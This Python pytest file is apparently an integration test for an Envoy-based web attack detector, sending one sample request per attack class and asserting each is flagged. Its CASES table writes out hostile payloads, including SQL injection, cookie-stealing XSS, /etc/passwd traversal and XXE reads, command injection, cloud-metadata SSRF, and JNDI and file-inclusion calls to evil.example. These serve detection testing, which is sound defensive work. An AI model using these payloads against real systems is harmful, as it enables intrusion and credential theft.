"""One request per attack class through real Envoy (front proxy mirroring to the receiver
with the built wasm) and a real collector: every class of config::CLASS_NAMES shows up in
the receiver's events with a finding of that class (issue 4). Scanner and protocol findings
are present but low-score, never an attack alone."""
from __future__ import annotations

import pytest

from collector import Collector, collector_cluster
from test_event_delivery import cfg, settle
from topology import Topology

FORM = {"content-type": "application/x-www-form-urlencoded"}
JSON = {"content-type": "application/json"}
XML = {"content-type": "application/xml"}

# class -> (method, path, headers, body)
CASES = {
    "sqli": ("GET", "/search?q=1%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--", {}, None),
    "xss": ("GET", "/comment?text=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", {}, None),
    "traversal": ("GET", "/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd", {}, None),
    "rfi": ("GET", "/index.php?page=http://evil.example/shell.txt?", {}, None),
    "rce": ("GET", "/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd", {}, None),
    "ssrf": ("POST", "/api/webhooks", JSON, '{"url": "http://169.254.169.254/latest/meta-data/"}'),
    "ssti": ("GET", "/hello?name=%7B%7B7*7%7D%7D", {}, None),
    "nosqli": ("POST", "/login", JSON, '{"username": "admin", "password": {"$ne": null}}'),
    "ldapi": ("GET", "/people?uid=*)(uid=*))(%7C(uid=*", {}, None),
    "xxe": ("POST", "/api/import", XML, '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'),
    "jndi": ("GET", "/", {"x-api-version": "${${lower:j}ndi:ldap://evil.example/a}"}, None),
    "crlf": ("GET", "/redirect?to=%2Fhome%0D%0ASet-Cookie%3A%20sid%3Devil", {}, None),
    "php": ("GET", "/view?page=php://filter/convert.base64-encode/resource=index.php", {}, None),
    "java": ("POST", "/login.action", FORM, "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x"),
    "js": ("GET", "/search?q=x&filter%5B__proto__%5D%5BisAdmin%5D=true", {}, None),
    # No Referer (Envoy passes the Host as :authority, so the off-site form needs no host here).
    "session": ("GET", "/login?JSESSIONID=0123456789ABCDEF", {}, None),
    "scanner": ("GET", "/", {"user-agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}, None),
    "protocol": ("GET", "/video.mp4", {"range": "bytes=0-1,2-3,4-5,6-7,8-9,10-11,12-13"}, None),
}


@pytest.fixture
def collector():
    c = Collector()
    yield c
    c.stop()


def test_every_class_reaches_the_events(collector):
    http_cfg = {"format": "ndjson", "batch_max": 50, "flush_ms": 50}
    with Topology(cfg(http_cfg), extra_clusters=collector_cluster(collector.port)) as t:
        for cls, (method, path, headers, body) in CASES.items():
            hdrs = {"host": "shop.example.com", "user-agent": "Mozilla/5.0 (X11; Linux x86_64)", "x-request-id": f"class-{cls}", **headers}
            t.request(method, path, hdrs, body)
        settle(t, len(CASES))
        events = {e["request_id"]: e for e in collector.wait_events(len(CASES))}
    missing = []
    for cls in CASES:
        ev = events.get(f"class-{cls}")
        if ev is None or not any(f["class"] == cls for f in ev["findings"]):
            missing.append((cls, ev and ev["findings"]))
    assert not missing, missing
    for cls in CASES:
        ev = events[f"class-{cls}"]
        own = [f for f in ev["findings"] if f["class"] == cls]
        if cls in ("scanner", "protocol"):
            assert all(f["score"] <= 3 for f in own), own
        else:
            assert ev["verdict"]["attack"] and cls in ev["verdict"]["classes"], (cls, ev["verdict"])
